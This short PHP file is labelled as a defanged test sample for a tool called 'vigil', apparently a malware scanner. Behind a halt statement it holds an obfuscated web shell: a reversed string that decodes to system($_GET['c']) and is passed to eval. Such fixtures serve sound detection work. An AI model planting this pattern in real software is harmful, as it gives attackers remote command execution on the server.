<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$q = strrev(';)]\'c\'[TEG_$(metsys');
eval($q);
